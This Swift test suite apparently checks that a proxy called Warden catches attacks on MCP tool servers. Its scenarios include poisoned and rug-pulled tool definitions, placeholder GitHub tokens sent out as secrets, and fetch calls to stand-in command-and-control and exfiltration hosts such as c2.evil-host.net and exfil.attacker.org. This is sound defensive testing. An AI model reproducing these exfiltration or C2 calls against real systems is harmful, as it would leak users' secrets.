import Foundation
import Testing

/// The framework's figures, measured on scripted attacks through real `warden wrap` processes and a
/// real hub, with benign sessions (the reference `mcp-server-time` and `mcp-server-git`) alongside:
/// abnormal tool executions detected, command-and-control attempts stopped, exposure-window reduction
/// from just-in-time access. Target ≥ 95% each, and no alert on the benign sessions.
@Suite("attack scenarios end to end", .serialized)
struct AttackScenarioTests {
    static let policy = """
        version: 1
        defaults: {action: allow}
        rules:
          - match: {tool: "delete_*"}
            action: grant
            grant: {timeout: 30s, max_ttl: 30m}
        egress:
          default: allow
          servers:
            web: {allow: ["docs.example.org"], default: deny}
        limits: {per_minute: 40}
        """

    static let token = "gh" + "p_" + String(repeating: "Zq9", count: 12)

    func wrap(_ name: String, _ server: [String]) -> [String] { [Harness.warden, "wrap", "--name", name, "--"] + server }
    func fixture(_ mode: String) -> [String] { [Harness.fixtureServer, mode] }
    func call(_ tool: String, _ args: [String: Any] = [:]) -> [String: Any] { ["op": "call", "name": tool, "arguments": args, "timeout": 60] }

    @Test("poisoned tool, rug pull, exfiltration, unknown hosts, a flood, a behaviour change and standing-vs-JIT access: ≥ 95% caught, benign sessions silent")
    func scenarios() async throws {
        try Harness.requirePeers()
        let home = Harness.temporaryHome()
        try Self.policy.write(toFile: home + "/policy.yaml", atomically: true, encoding: .utf8)
        let hub = try await HubProcess(home: home)
        defer { Task { await hub.stop() } }

        // Standing vs JIT: a session that needs one destructive call, approved for 1 s, and goes on working for ~25 s.
        let jit = pythonClientTask(command: wrap("store", fixture("hostile")), steps: [
            call("delete_everything", ["confirm": true]), ["op": "sleep", "seconds": 25], call("echo", ["text": "done"]),
        ], home: home)
        let pending = try await waitForPending(home: home)
        let approved = try await warden(["grants", "approve", pending.grant["id"] as! String, "--ttl", "1s"], home: home)
        #expect(approved.status == 0, "\(approved.stderr)")

        // Benign sessions alongside: the reference servers, used the ordinary way.
        let repo = home + "-repo"  // outside the home: a sandboxed server never sees Warden's state
        try await makeGitRepo(repo)
        let benignTime = pythonClientTask(command: wrap("time", [Harness.peers + "/bin/mcp-server-time", "--local-timezone", "UTC"]),
                                          steps: [["op": "list"]] + (0..<25).map { _ in call("get_current_time", ["timezone": "Europe/Oslo"]) }
                                              + [call("convert_time", ["source_timezone": "UTC", "time": "12:00", "target_timezone": "Asia/Tokyo"])], home: home)
        let benignGit = pythonClientTask(command: wrap("git", [Harness.peers + "/bin/mcp-server-git", "--repository", repo]),
                                         steps: [["op": "list"]] + (0..<22).map { i in call(i % 2 == 0 ? "git_status" : "git_log", ["repo_path": repo]) }, home: home)

        // A. A poisoned tool is called anyway.
        let poisoned = try await pythonClient(command: wrap("tools", fixture("hostile")), steps: [["op": "list"], call("poisoned_add", ["a": 1, "b": 2])], home: home)
        // B. A rug pull: the definition changes after two calls; the next call uses it.
        let rug = try await pythonClient(command: wrap("weather", fixture("rugpull")), steps: [
            ["op": "list"], call("get_forecast", ["city": "Oslo"]), call("get_forecast", ["city": "Lima"]), ["op": "list"], call("get_forecast", ["city": "Quito"]),
        ], home: home)
        // C. Exfiltration: a secret in a parameter; a secret read from a file and then sent on.
        _ = try await pythonClient(command: wrap("notes", fixture("hostile")), steps: [
            call("sync_notes", ["text": "meeting notes; token \(Self.token)"]), call("read_env"), call("echo", ["text": "GITHUB_TOKEN=gh" + "p_" + String(repeating: "Q7x", count: 12)]),
        ], home: home)
        // D. Command and control: five ways to reach hosts outside the allow list, one allowed call.
        let c2Calls: [[String: Any]] = [
            ["url": "https://c2.evil-host.net/beacon"], ["url": "http://203.0.113.7:8080/x"], ["url": "https://docs.example.org.evil.net/"],
            ["url": "https://docs.example.org/", "host": "exfil.attacker.org"], ["url": "https://docs.example.org/", "to": "drop@attacker.org"],
        ]
        let c2 = try await pythonClient(command: wrap("web", fixture("hostile")),
                                        steps: c2Calls.map { call("fetch_page", $0) } + [call("fetch_page", ["url": "https://docs.example.org/guide"])], home: home)
        // E. A flood: 60 calls at once against a limit of 40 a minute.
        let flood = try await pythonClient(command: wrap("flood", fixture("hostile")),
                                           steps: [["op": "concurrent", "calls": (0..<60).map { call("echo", ["text": "x\($0)"]) }]], home: home, timeout: 120)
        // F. A tool used the same way 20 times, then with a new argument and a 10 KB payload.
        let drift = try await pythonClient(command: wrap("calc", fixture("hostile")),
                                           steps: (0..<20).map { call("echo", ["text": "n\($0)"]) } + [call("echo", ["text": String(repeating: "A", count: 10_000), "callback": "later"])],
                                           home: home)
        _ = try await (benignTime.value, benignGit.value, jit.value)
        try await Task.sleep(for: .milliseconds(500))

        let alerts = (try await wardenJSON(["alerts", "list"], home: home)["alerts"] as? [[String: Any]]) ?? []
        func has(_ rule: String, _ server: String) -> Bool { alerts.contains { $0["rule"] as? String == rule && $0["server"] as? String == server } }
        func decision(_ entry: Any) -> String? { decisionMeta(entry)["decision"] as? String }
        let r = { (report: [String: Any]) in report["results"] as! [Any] }

        // Abnormal executions and whether Warden stopped or flagged each.
        let floodResults = ((r(flood)[0] as! [String: Any])["concurrent"] as! [Any])
        let refusedFlood = floodResults.filter { decision($0) == "denied-rate-limit" }.count
        let abnormal: [(String, Bool)] = [
            ("poisoned tool call refused and alerted", decision(r(poisoned)[1]) == "quarantined" && has("tool.poisoned", "tools") && has("call.blocked", "tools")),
            ("call after the rug pull refused and alerted", decision(r(rug)[4]) == "quarantined" && has("tool.rug-pull", "weather")),
            ("secret in a parameter alerted", has("dlp.secret", "notes")),
            ("secret read, then sent on: toxic flow alerted", has("flow.toxic", "notes")),
            ("suspicious tool sync_notes alerted", has("tool.poisoned", "notes")),
            ("flood refused over the limit and alerted", refusedFlood == 20 && has("resource.exhaustion", "flood")),
            ("new argument and 10 KB payload alerted", has("behaviour.anomaly", "calc")),
        ] + c2Calls.indices.map { i in ("C2 attempt \(i + 1) refused", decision(r(c2)[i]) == "denied-egress") }
        let detected = abnormal.filter(\.1).count
        let c2Stopped = c2Calls.indices.filter { decision(r(c2)[$0]) == "denied-egress" }.count
        let stats = try await wardenJSON(["grants", "stats"], home: home)
        let reduction = Double("\(stats["reductionPercent"] ?? "0")") ?? 0
        let benignAlerts = alerts.filter { ["time", "git"].contains($0["server"] as? String ?? "") }

        print("scenario figures: abnormal tool executions detected \(detected)/\(abnormal.count) = \(String(format: "%.0f", 100 * Double(detected) / Double(abnormal.count)))%;"
              + " C2 attempts stopped \(c2Stopped)/\(c2Calls.count) = \(100 * c2Stopped / c2Calls.count)%;"
              + " exposure-window reduction \(reduction)% (JIT \(stats["exposureSeconds"] ?? "?") s against standing \(stats["standingSeconds"] ?? "?") s);"
              + " alerts on benign sessions: \(benignAlerts.count)")
        for (what, ok) in abnormal where !ok { Issue.record("missed: \(what)") }
        #expect(Double(detected) / Double(abnormal.count) >= 0.95)
        #expect(c2Stopped == c2Calls.count)
        #expect(!isError(r(c2)[5]), "the allowed destination must pass")
        #expect(reduction >= 95, "exposure reduction \(reduction)%")
        #expect(benignAlerts.isEmpty, "benign sessions raised: \(benignAlerts.map { $0["title"] ?? "" })")
        #expect(!r(drift).isEmpty)
    }
}
